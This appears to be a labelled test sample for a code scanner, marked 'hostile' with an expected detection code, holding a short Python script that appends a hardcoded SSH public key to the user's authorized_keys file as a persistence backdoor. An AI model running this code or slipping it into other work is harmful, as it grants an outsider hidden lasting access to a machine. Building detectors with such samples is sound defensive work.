# label: hostile
# expect: V103
# note: Appends a public key to authorized_keys, for a way back in.
# allow: V101 V102
from pathlib import Path

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExample ops@example.org"

target = Path.home() / ".ssh" / "authorized_keys"
target.parent.mkdir(mode=0o700, exist_ok=True)
existing = target.read_text() if target.exists() else ""
if KEY not in existing:
    with target.open("a") as f:
        f.write(KEY + "\n")
